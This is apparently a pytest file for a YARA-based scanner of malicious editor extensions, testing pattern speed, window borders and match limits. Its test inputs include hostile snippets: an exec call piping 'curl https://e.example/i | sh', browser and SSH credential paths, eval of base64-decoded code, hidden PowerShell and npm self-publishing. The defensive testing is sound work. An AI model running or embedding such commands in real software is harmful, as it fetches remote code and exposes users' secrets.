"""What holds for all patterns together: they are quick, and hostile input doesn't change that."""

import time
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import cast

import pytest
import yara_x
from msgspec.structs import replace

from tests.builders import extension, install
from tests.offline import analyse
from vscan.extension_files import OVERLAP_BYTES, WINDOW_BYTES
from vscan.model import Scanned, Task
from vscan.providers.offline import checks
from vscan.providers.offline.analyser import Analyser
from vscan.providers.offline.check_interface import Unexamined, bounded
from vscan.providers.offline.checks import CHECKS

MIB = 1024**2


def test_yara_reports_no_pattern_as_slow() -> None:
    compiler = yara_x.Compiler()
    for number, check in enumerate(CHECKS):
        compiler.new_namespace(str(number))
        compiler.add_source(check.patterns)
    assert compiler.warnings() == []
    compiler.add_source(r"rule slow { strings: $a = /.{1,9}a/ condition: $a }")
    assert compiler.warnings() != []


@contextmanager
def cpu_s(spent: list[float]) -> Iterator[None]:
    before = time.process_time()
    yield
    spent.append(time.process_time() - before)


HOSTILE = {
    "spaces": " ",
    "newlines": "\n",
    "a letter": "a",
    "quotes": '"',
    "parentheses": "(",
    "backslashes": "\\",
    "slashes": "/",
    "digits": "1",
    "evals": "eval(",
    "functions": "Function(",
    "buffers": "eval(Buffer.from(",
    "named": "a=atob(b);",
    "comments": "eval/*",
    "shells": "powershell -w hidden ",
    "pipes": "curl a|",
    "npx": "npx github:a ",
    "selectors": "\ufe00",
    "high selectors": "\U000e0101",
    "ok, ok, ok": "\U000e015f\U000e015b ",
    "tags": "\U000e0041",
    "zero width": "\u200b\u200c",
    "escapes": r"\ufe00",
    "decoders": "0xfe00 0xe0100 ",
    "names": "_0xab ",
    "controls": "\u202e",
    "addresses": "http://10.0.0.1 ",
    "chains": '"eth_call" ',
    "targets": '"/Login Data" "/.ssh/id_rsa" ',
    "publish": "npm publish ",
    "keys": "-----BEGIN PRIVATE" + " KEY-----\n",
    "code behind spaces": ";" + " " * 200,
    "remote": "ScreenConnect ",
    "tokens": "AKIA" + "A" * 16 + " ",
    "environment": "A_KEY=",
}


def hostile(text: str, size: int) -> None:
    """Analyse a file that repeats a text. Only what is beyond counting or parsing is a gap."""
    name = ".env" if "=" in text else "x.js"
    verdict = analyse({name: (text * (size // len(text.encode()) + 1))[:size]})
    allowed = ("too many matches", "too costly to parse")
    assert all(any(each in gap for each in allowed) for gap in verdict.gap_texts), verdict.gap_texts


@pytest.mark.full
@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
def test_a_text_that_is_hard_on_patterns_is_read_to_its_end(text: str) -> None:
    hostile(text, MIB // 16)


@pytest.mark.nightly
@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
def test_eight_times_the_text_takes_no_more_than_some_eight_times_as_long(text: str) -> None:
    """Quadratic would be 64 times. Ratios only: how fast a machine is doesn't matter."""
    spent: list[float] = []
    for size in (MIB // 8, MIB):
        best: list[float] = []
        for _ in range(2):
            with cpu_s(best):
                hostile(text, size)
        spent.append(min(best))
    small, large = spent
    assert large < 24 * max(small, 0.02)


def test_thousands_of_decoys_hide_no_finding() -> None:
    decoys = "'http://10.0.0.1' " * 10_000
    verdict = analyse({"x.js": decoys + "'http://45.76.12.34'"})
    assert [finding.rule for finding in verdict.findings] == ["raw-ip-address"]
    assert verdict.gap_texts == ()


@pytest.mark.full
@pytest.mark.parametrize(
    ("name", "decoy", "check"),
    [
        ("x", "'http://10.0.0.1' ", "exfiltration-sink"),
        ("x.txt", "sk_live_ ", "shipped-secret"),
    ],
)
@pytest.mark.parametrize("found", [False, True])
def test_too_many_matches_are_a_gap_whatever_is_found(
    name: str, decoy: str, check: str, *, found: bool
) -> None:
    """A finding says nothing of the places that were not looked at; nor does a gap end it."""
    hidden = "".join(chr(0xFE00 + n % 16) for n in b"a payload, harmless")
    verdict = analyse({name: "'http://45.76.12.34' " * found + decoy * 50_001, "z.js": hidden})
    assert verdict.gap_texts == (f"{name} has too many matches for the check {check}",)
    assert "invisible-payload" in {finding.rule for finding in verdict.findings}


@pytest.mark.full
def test_too_many_matches_without_a_rule_are_no_gap() -> None:
    """What can be done is held against nobody; and of what is found nothing can be worse."""
    assert analyse({"x.js": '"https://a\n' * 50_001}).gap_texts == ()
    names = "".join(f"_0x{number:06x} " for number in range(60_000))
    letters = "".join(f'"\\x41\\x42\\x43\\x44\\x{0x41 + n % 26:02x}" ' for n in range(60_000))
    for text in (names, letters):
        verdict = analyse({"x.js": text})
        assert [finding.rule for finding in verdict.findings] == ["obfuscated-code"]
        assert verdict.gap_texts == ()
    assert analyse({"yarn.lock": '  resolved "https://a\n' * 50_001}).gap_texts == ()
    keys = '"/Login Data" "/.ssh/id_rsa" "/.aws/credentials" ' * 50_001
    assert analyse({"x": keys}).gap_texts == ()  # found at the beginning, and no worse behind it


class _Impatient:
    """A scanner that has no time for more than a megabyte."""

    def __init__(self, scanner: yara_x.Scanner) -> None:
        self._scanner = scanner

    def scan(self, content: bytes) -> yara_x.ScanResults:
        if len(content) > MIB:
            raise yara_x.TimeoutError
        return self._scanner.scan(content)


def test_a_window_that_takes_too_long_is_searched_in_parts(tmp_path: Path) -> None:
    """On a busy machine: what is found, and where, is the same."""
    word = "'http://45.76.12.34' "
    text = "".join("x" * number + word for number in range(3000))
    no_word = "xAKIA" + "Q2W3E4R5T6Y7U2I3 "  # the parts meet behind its first letter
    middle = len(text) // 2
    text = text[: middle - 1] + no_word + text[middle - 1 + len(no_word) :]
    root = install(tmp_path)
    (root / "x.js").write_text(text)
    extension_there = replace(extension(), root=root)
    task = Task("offline", (extension_there,))
    analyser = Analyser(None)
    whole = analyser.ask(task, 0, None)
    analyser._search.scanners = {
        kind: tuple(cast("yara_x.Scanner", _Impatient(scanner)) for scanner in scanners)
        for kind, scanners in analyser._search.scanners.items()
    }
    parts = analyser.ask(task, 0, None)
    assert isinstance(whole, Scanned)
    assert isinstance(parts, Scanned)
    assert parts.verdict.gap_texts == whole.verdict.gap_texts == ()
    assert parts.verdict.findings == whole.verdict.findings
    assert whole.verdict.findings[-1].message.endswith("(and 2980 more like it)")
    assert parts.verdict.digest == whole.verdict.digest != ""


_BORDER = WINDOW_BYTES - OVERLAP_BYTES
# What counts only with what stands before it: the two parts, and the rule.
_BEFORE = {
    "a kept text": ('var q=atob("Y29uc29sZS5sb2coMSk=");', "eval(q);", "decoded-code"),
    "what runs a command": ('require("child_process").exec("', 'npm publish");', "self-spread"),
    "places": ('x="/Login Data";y="/.ssh/id_rsa";', 'z="/.aws/credentials";', "theft-targets"),
    "a chain": ("eval(x);", 'y("eth_call");', "blockchain-commands"),
    "a range": ("const a=(c)=>c-0xfe00;", "d=0xe0100;", "invisible-decoder"),
    "a shell": ('require("child_process").exec("', 'curl https://e.example/i | sh");',
                "runs-remote-code"),
}  # fmt: skip


@pytest.mark.full
@pytest.mark.parametrize("parts", _BEFORE.values(), ids=_BEFORE)
@pytest.mark.parametrize("cut", [-1, 0, 1])
def test_the_border_of_a_window_hides_no_context_before_it(
    parts: tuple[str, str, str], cut: int
) -> None:
    before, after, rule = parts
    lead = "//" + "x" * (_BORDER - len(before) - 3 + cut) + "\n"
    verdict = analyse({"x.js": lead + before + after + "\n//" + "y" * MIB})
    (finding,) = (each for each in verdict.findings if each.rule == rule)
    assert finding.line == 2


@pytest.mark.full
def test_the_border_of_a_window_does_not_make_code_of_a_comment() -> None:
    line = "// " + "curl https://e.example/i | sh; "
    lines = (line + "\n") * (_BORDER // len(line))
    assert analyse({"x.sh": lines + lines[:MIB]}).findings == ()


def test_a_match_in_two_windows_is_one_finding() -> None:
    lead = "//" + "x" * (_BORDER - 1000) + "\n"
    verdict = analyse({"x.js": lead + "'http://45.76.12.34'" + "\n//" + "y" * MIB})
    assert [finding.offset for finding in verdict.findings] == [len(lead) + 5]


def test_items_beyond_a_limit_are_a_gap() -> None:
    assert list(bounded([1, 2], 2, "more")) == [1, 2]
    assert list(bounded([1, 2, 3, 4], 2, "more")) == [1, 2, Unexamined("more")]


def test_every_check_stops_early_only_with_a_gap() -> None:
    """``bounded`` says that there was more; ``islice`` does not."""
    for module in Path(checks.__file__).parent.glob("*.py"):
        assert "islice" not in module.read_text("utf-8"), module.name
